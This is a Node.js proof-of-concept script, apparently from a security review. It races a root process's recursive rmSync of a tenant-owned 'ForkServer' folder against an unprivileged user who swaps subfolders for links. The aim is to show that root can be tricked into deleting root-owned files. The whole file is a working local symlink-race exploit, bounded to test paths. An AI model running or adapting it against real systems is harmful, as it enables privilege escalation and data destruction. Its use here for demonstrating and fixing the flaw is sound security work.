// Run as root: what ForkServer.shutDown (and removeStaleForkFolders) do to a
// fork folder owned by the tenant: rmSync(dir, {recursive, force}). While
// alice flips subfolders with links to a root-owned VICTIM folder
// (rimraf-swap.py), repeats: make alice's folder, let her populate it, rm it.
// Usage: node rimraf-race.mjs  (needs user r13alice; bounded to 200 rounds / 60 s)
import { spawn } from 'node:child_process';
import { chownSync, existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
const base = '/tmp/r13/race';
const victim = `${base}/victim`;
rmSync(base, { recursive: true, force: true });
mkdirSync(victim, { recursive: true });
for (let i = 0; i < 50; i++) writeFileSync(`${victim}/precious-${i}`, 'root data');
const folder = `${base}/pypages-fork-alice`;
const stop = `${base}/stop`;
mkdirSync(base, { recursive: true });
const uid = Number(process.env.ALICE_UID), gid = Number(process.env.ALICE_GID);
const swapper = spawn('setpriv', ['--reuid', String(uid), '--regid', String(gid), '--clear-groups', '/usr/bin/python3',
  new URL('./rimraf-swap.py', import.meta.url).pathname, folder, victim, stop, '20'], { stdio: 'inherit' });
const t0 = Date.now();
let round = 0;
let throws = 0;
for (; round < 200 && Date.now() - t0 < 60_000; round++) {
  mkdirSync(folder, { recursive: true }); chownSync(folder, uid, gid); chownSync(base, 0, 0);
  await new Promise((r) => setTimeout(r, 50));
  try {
    rmSync(folder, { recursive: true, force: true });
  } catch (err) {
    throws++; // in ForkServer.shutDown this is an uncaught exception in the server
  }
  if (readdirSync(victim).length < 50) break;
}
writeFileSync(stop, '');
swapper.kill();
const left = readdirSync(victim).length;
console.log(`${round + 1} rounds: ${50 - left} of 50 root-owned files in ${victim} deleted by root's rm of alice's folder; rmSync threw ${throws} times`);
